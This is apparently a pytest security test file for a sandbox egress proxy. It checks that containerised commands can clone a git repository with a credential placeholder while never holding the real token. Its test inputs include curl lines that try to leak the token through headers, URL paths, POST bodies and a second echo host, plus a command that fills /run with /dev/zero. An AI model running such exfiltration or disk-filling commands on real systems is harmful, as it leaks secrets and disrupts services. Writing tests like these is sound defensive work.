"""A command uses a token that it does not have: git, over HTTPS, at a real server."""

import re
from collections.abc import AsyncIterator

import pytest
import pytest_asyncio
from wire.errors import WireError

from tests.security.egress.conftest import TIERS
from tests.security.test_keys_of_no_guest import memory_holds
from tests.support.internet.guests import Guests, guests
from tests.support.internet.internet import Internet

pytestmark = pytest.mark.asyncio(loop_scope="session")

OF_THE_RUNNER = "NOTES_TOKEN_OF_THE_RUNNER"
CREDENTIAL = {
    "env": OF_THE_RUNNER,
    "hosts": ("git.example.org",),
    "place": "basic",
    "variable": "NOTES_TOKEN",
}
CLONE = "cd /tmp && rm -rf notes && git clone -q https://x:$NOTES_TOKEN@git.example.org/notes.git"
IN_CONTAINERS = [each for each in TIERS if each.id == "container"]


@pytest_asyncio.fixture(scope="module", loop_scope="session", params=IN_CONTAINERS)
async def holder(request: pytest.FixtureRequest, net: Internet) -> AsyncIterator[Guests]:
    opened = {"allow": ("git.example.org", "files.example.org")}
    environ = {OF_THE_RUNNER: net.git.token}
    async with guests(
        net, request.param, environ=environ, shell=opened, credentials={"notes": CREDENTIAL}
    ) as ready:
        yield ready


async def test_git_clones_with_a_token_that_the_shell_does_not_have(holder: Guests) -> None:
    token = holder.net.git.token
    with holder.net.arrivals.during() as seen:
        ran = await holder.command(f"{CLONE} && cat notes/README; env; cat notes/.git/config")

    said = (ran.stdout + ran.stderr).decode()
    assert "the notes of a private repository" in said
    assert re.search("oxydra-credential-notes-", said)
    assert token not in said
    assert all(each.to == "git.example.org" for each in seen.of("request"))
    assert seen.of("request")
    pid = await holder.pid("shell")
    assert memory_holds(pid, [token.encode()]) == []
    for path in (holder.host.workspace.path / "tmp").rglob("*"):
        assert not path.is_file() or token.encode() not in path.read_bytes()


@pytest.mark.attempt(
    "a placeholder where its credential does not belong",
    stopped_by="it stops every request that can be read, and is worth nothing elsewhere",
)
@pytest.mark.parametrize(
    "where",
    [
        "-H 'x-other: '$NOTES_TOKEN https://git.example.org/notes.git/info/refs",
        "https://git.example.org/$NOTES_TOKEN",
        "--data token=$NOTES_TOKEN https://git.example.org/notes.git/info/refs",
        "-u x:$NOTES_TOKEN http://files.example.org/echo",
    ],
)
async def test_a_placeholder_elsewhere_stops_the_request(holder: Guests, where: str) -> None:
    with holder.net.arrivals.during() as seen:
        ran = await holder.command(f"curl -sS -i {where}")

    assert b"oxydra-refused: credential" in ran.stdout, ran.stdout + ran.stderr
    assert seen.of("request") == []


async def test_certificates_that_cannot_be_written_are_a_fault_that_is_shown(
    holder: Guests,
) -> None:
    """A command has filled the place for them; who reloads hears of it, and so does `status`."""
    egress = holder.config.egress
    try:
        await holder.command("cat /dev/zero > /run/full; true")
        changed = egress.model_copy(update={"inspect": ("files.example.org",)})
        holder.config = holder.config.model_copy(update={"egress": changed})
        with pytest.raises(WireError, match="do not hear how they get out") as told:
            await holder.host.reload_egress()
        assert "No space left" in told.value.details
        shell = next(g for g in (await holder.host.status()).guests if g.role == "shell")
        assert shell.reason == "commands do not hear how they get out"
    finally:
        await holder.command("rm /run/full")
        holder.config = holder.config.model_copy(update={"egress": egress})
        await holder.host.reload_egress()
    shell = next(g for g in (await holder.host.status()).guests if g.role == "shell")
    assert shell.reason == ""


@pytest.mark.attempt(
    "the token in an answer, when a server says it back",
    stopped_by="answers are searched for the values of credentials",
)
async def test_what_a_server_says_back_is_without_the_token(holder: Guests) -> None:
    ran = await holder.command("curl -sS -u x:$NOTES_TOKEN https://git.example.org/echo -v 2>&1")
    assert holder.net.git.token.encode() not in ran.stdout
